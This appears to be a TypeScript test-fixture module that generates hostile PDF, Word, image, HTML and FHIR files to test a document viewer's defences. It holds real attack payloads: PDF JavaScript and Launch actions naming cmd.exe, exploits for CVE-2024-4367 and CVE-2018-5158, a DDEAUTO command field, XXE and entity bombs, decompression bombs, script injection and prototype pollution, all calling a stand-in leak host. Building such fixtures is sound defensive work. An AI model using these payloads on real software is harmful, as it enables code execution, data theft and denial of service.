// Files that were made to do harm: each tries to run, to reach the network, or to take all there is of time and memory.
// Whatever runs sets `ran`; whatever reaches out asks LEAK for something.
import { deflateSync } from "node:zlib";
import { makeDocx, makeZip } from "./make-docx.ts";

/** The address that nobody may ask; replaced by the test's own server. */
export const LEAK = "http://leak.invalid";

const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const SCRIPT = "globalThis.ran=true;document.title='ran';fetch('" + LEAK + "/script')";

/** One of them: how it is handed over, and what may come of it. */
export type Hostile = { name: string; mediaType: string; bytes: Uint8Array; outcome: RegExp };

const text = (words: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(words);

/** A PDF of these objects, the first of which is its catalogue. */
function pdfOf(objects: readonly (string | Buffer)[]): Uint8Array<ArrayBuffer> {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  const offsets: number[] = [];
  let at = parts[0]?.length ?? 0;
  objects.forEach((object, index) => {
    const whole = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from("\nendobj\n")]);
    offsets.push(at);
    parts.push(whole);
    at += whole.length;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Uint8Array.from(Buffer.concat(parts));
}

const stream = (body: string | Buffer, entries = ""): Buffer =>
  Buffer.concat([
    Buffer.from(`<< /Length ${body.length} ${entries} >>\nstream\n`),
    Buffer.from(body),
    Buffer.from("\nendstream"),
  ]);

const WORDS = "BT /F1 24 Tf 72 720 Td (Haemoglobin) Tj ET";

/** A page with these words; `catalogue`, `page` and `font` are what is wrong with it. */
function pdfWith(wrong: {
  catalogue?: string;
  page?: string;
  font?: string;
  content?: Buffer;
  more?: (string | Buffer)[];
}) {
  const { catalogue = "", page = "", font = "", content = stream(WORDS), more = [] } = wrong;
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica ${font} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R ${page} >>`,
    content,
    ...more,
  ]);
}

const js = SCRIPT.replace(/[()\\]/g, (sign) => `\\${sign}`);
const pdf = (name: string, bytes: Uint8Array, outcome = /^shown 1$/): Hostile => ({
  name,
  mediaType: "application/pdf",
  bytes,
  outcome,
});

function pdfs(): Hostile[] {
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${LEAK}/uri) >> >>`;
  return [
    pdf("JavaScript when it is opened", pdfWith({ catalogue: `/OpenAction << /S /JavaScript /JS (${js}) >>` })),
    pdf(
      "JavaScript by name, on the page and on closing",
      pdfWith({
        catalogue: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${js}) >>] >> >> /AA << /WC << /S /JavaScript /JS (${js}) >> >>`,
        page: `/AA << /O << /S /JavaScript /JS (${js}) >> >>`,
      }),
    ),
    pdf(
      "a launch action, a remote file and a form that sends itself",
      pdfWith({
        catalogue: `/OpenAction << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) >> /Next [<< /S /GoToR /F (${LEAK}/remote) >> << /S /SubmitForm /F << /FS /URL /F (${LEAK}/form) >> >>] >>`,
      }),
    ),
    pdf("a link over the whole page", pdfWith({ page: `/Annots [${link}]` })),
    pdf(
      "an XFA form with a script",
      pdfWith({
        catalogue: "/AcroForm << /XFA 6 0 R >>",
        more: [stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${SCRIPT}</script></xdp:xdp>`)],
      }),
    ),
    // CVE-2024-4367: pdf.js once put a font's matrix into a function's source without looking at it.
    pdf(
      "a font matrix that is a program",
      pdfWith({
        font: `/FontMatrix [0.001 0 0 0.001 0 (1\\); ${js}//)] /FontDescriptor 6 0 R`,
        more: [
          "<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile 7 0 R >>",
          stream(
            `%!PS-AdobeFont-1.0: Evil\n/FontName /Evil def /FontMatrix [0.001 0 0 0.001 0 (1\\); ${js}//)] readonly def /Encoding StandardEncoding def currentfile eexec`,
          ),
        ],
      }),
      /^(shown 1|problem damaged)$/,
    ),
    // CVE-2018-5158: the same with a PostScript calculator function.
    pdf(
      "a calculator function that is a program",
      pdfWith({
        content: stream(`/CS0 cs 0.5 sc 0 0 500 500 re f ${WORDS}`),
        page: `/Group << /S /Transparency >> /Resources << /Font << /F1 3 0 R >> /ColorSpace << /CS0 [/Separation /x /DeviceRGB 6 0 R] >> >>`,
        more: [
          stream(`{ ${"dup mul ".repeat(2000)} (${js}) exec }`, "/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]"),
        ],
      }),
    ),
    pdf(
      "a page tree that contains itself",
      pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"]),
      /^problem (damaged|slow)$/,
    ),
    pdf(
      "a thousand million pages",
      pdfOf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>",
      ]),
      /^(shown \d{1,4}|problem (damaged|slow))$/,
    ),
    pdf("a page larger than a country", pdfWith({ page: "/UserUnit 75000 /CropBox [0 0 14400 14400]" })),
    pdf(
      "a page whose drawing unpacks to 256 MB",
      pdfWith({ content: stream(deflateSync(Buffer.alloc(256_000_000, "0 0 m ")), "/Filter /FlateDecode") }),
      /^(shown 1|problem (damaged|slow))$/,
    ),
  ];
}

function words(): Hostile[] {
  const paragraph = "<w:p><w:r><w:t>Dear colleague</w:t></w:r></w:p>";
  const entry = (name: string, body: string) => ({ name, bytes: text(body) });
  const bombs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY a${at} "${`&a${at === 0 ? "" : at - 1};`.repeat(10)}">`).join("")}]>`;
  const relations = (kind: string) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${LEAK}/${kind}" TargetMode="External"/></Relationships>`;
  const docx = (name: string, bytes: Uint8Array, outcome = /^shown 1$/): Hostile => ({
    name,
    mediaType: WORD,
    bytes,
    outcome,
  });
  return [
    docx("macros", makeDocx({ body: paragraph, more: [entry("word/vbaProject.bin", SCRIPT)] })),
    docx(
      "a template, a picture and a frame that lie elsewhere",
      makeDocx({
        body: `${paragraph}<w:p><w:r><w:drawing><a:blip xmlns:a="a" xmlns:r="r" r:link="rId1"/></w:drawing></w:r></w:p><w:altChunk/>`,
        more: [
          entry("word/_rels/settings.xml.rels", relations("attachedTemplate")),
          entry("word/_rels/document.xml.rels", relations("image")),
        ],
      }),
    ),
    docx(
      "fields that fetch and run",
      makeDocx({
        body: `<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd "/k calc" INCLUDEPICTURE "${LEAK}/field"</w:instrText></w:r></w:p>`,
      }),
    ),
    docx(
      "markup in its words",
      makeDocx({
        body: `<w:p><w:r><w:t>&lt;img src=x onerror="${SCRIPT}"&gt;</w:t></w:r></w:p><x:script xmlns:x="http://www.w3.org/1999/xhtml">${SCRIPT}</x:script>`,
      }),
    ),
    docx(
      "an external entity",
      makeDocx({
        before: `<!DOCTYPE x [<!ENTITY x SYSTEM "${LEAK}/entity">]>`,
        body: `<w:p><w:r><w:t>&x;</w:t></w:r></w:p>`,
      }),
      /^problem damaged$/,
    ),
    docx(
      "entities that multiply",
      makeDocx({ before: bombs, body: `<w:p><w:r><w:t>&a29;</w:t></w:r></w:p>` }),
      /^problem damaged$/,
    ),
    docx(
      "a text part that unpacks to 300 MB",
      makeZip([
        entry("[Content_Types].xml", "<Types/>"),
        { name: "word/document.xml", bytes: Buffer.alloc(300_000_000, 0x20), claims: 10 },
      ]),
      /^problem damaged$/,
    ),
    docx(
      "a hundred thousand nested tables",
      makeDocx({ body: "<w:tbl><w:tr><w:tc>".repeat(100_000) }),
      /^problem damaged$/,
    ),
    docx("half a million paragraphs", makeDocx({ body: paragraph.repeat(500_000) }), /^(shown 1|problem damaged)$/),
    docx(
      "a directory that points nowhere",
      (() => {
        const bytes = makeDocx({ body: paragraph });
        new DataView(bytes.buffer).setUint32(bytes.length - 6, 0xfffffff0, true);
        return bytes;
      })(),
      /^problem damaged$/,
    ),
  ];
}

/** A PNG that says it has so many pixels. */
function pngOf(width: number, height: number): Uint8Array {
  const header = Buffer.alloc(25);
  header.writeUInt32BE(13, 0);
  header.write("IHDR", 4);
  header.writeUInt32BE(width, 8);
  header.writeUInt32BE(height, 12);
  header.set([8, 2, 0, 0, 0], 16);
  return Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), header, deflateSync(Buffer.alloc(50_000_000))]);
}

function pictures(): Hostile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script><image href="${LEAK}/svg"/></svg>`;
  const jpeg = Buffer.from("ffd8ffc0001108ffffffff03012200021101031101ffd9", "hex");
  return [
    {
      name: "a PNG of 3,600 million pixels",
      mediaType: "image/png",
      bytes: pngOf(60_000, 60_000),
      outcome: /^problem damaged$/,
    },
    { name: "a JPEG of 4,295 million pixels", mediaType: "image/jpeg", bytes: jpeg, outcome: /^problem damaged$/ },
    {
      name: "an SVG with a script that says it is a PNG",
      mediaType: "image/png",
      bytes: text(svg),
      outcome: /^problem damaged$/,
    },
    {
      name: "an SVG with a script, as the text that it is",
      mediaType: "text/plain",
      bytes: text(svg),
      outcome: /^shown 1$/,
    },
    {
      name: "an SVG under its own name",
      mediaType: "image/svg+xml",
      bytes: text(svg),
      outcome: /^problem unsupported$/,
    },
  ];
}

function texts(): Hostile[] {
  const html = `<!doctype html><base href="${LEAK}/"><meta http-equiv="refresh" content="0;url=${LEAK}/refresh"><img src="/img" onerror="${SCRIPT}"><script>${SCRIPT}</script><link rel=stylesheet href="${LEAK}/css">`;
  const fhir = (body: string): Uint8Array => text(`{"resourceType":"Bundle",${body}}`);
  const depth = 200_000;
  return [
    { name: "HTML with a script", mediaType: "text/plain", bytes: text(html), outcome: /^shown 1$/ },
    { name: "HTML under its own name", mediaType: "text/html", bytes: text(html), outcome: /^problem unsupported$/ },
    {
      name: "a PDF that is HTML, too",
      mediaType: "application/pdf",
      bytes: text(`%PDF-1.7\n${html}`),
      outcome: /^problem damaged$/,
    },
    {
      name: "a Word document that is HTML, too",
      mediaType: WORD,
      bytes: Uint8Array.from([...text(html), ...makeDocx({ body: "" })]),
      outcome: /^(shown 1|problem damaged)$/,
    },
    {
      name: "a text of 10 million characters in one line",
      mediaType: "text/plain",
      bytes: new Uint8Array(10_000_000).fill(0x41),
      outcome: /^shown 1$/,
    },
    {
      name: "words that turn their direction",
      mediaType: "text/plain",
      bytes: text("Take \u202Enever\u202C and \u2067\u2066 more"),
      outcome: /^shown 1$/,
    },
    {
      name: "FHIR with a script in its narrative",
      mediaType: "application/fhir+json",
      bytes: fhir(
        `"text":{"div":"<img src='${LEAK}/n' onerror=\\"globalThis.ran=true\\">"},"a":"<script>globalThis.ran=true</script>"`,
      ),
      outcome: /^shown 1$/,
    },
    {
      name: "JSON 200,000 deep",
      mediaType: "application/fhir+json",
      bytes: fhir(`"a":${"[".repeat(depth)}${"]".repeat(depth)}`),
      outcome: /^shown 1$/,
    },
    {
      name: "objects 100,000 deep",
      mediaType: "application/fhir+json",
      bytes: fhir(`"a":${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`),
      outcome: /^shown 1$/,
    },
    {
      name: "a million values",
      mediaType: "application/fhir+json",
      bytes: fhir(`"a":[${'{"b":1},'.repeat(1_000_000)}{"b":1}]`),
      outcome: /^shown 1$/,
    },
    {
      name: "a resource that speaks of prototypes",
      mediaType: "application/fhir+json",
      bytes: fhir('"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}'),
      outcome: /^shown 1$/,
    },
  ];
}

/** All of them. */
export function makeHostileFiles(): Hostile[] {
  return [...pdfs(), ...words(), ...pictures(), ...texts()];
}
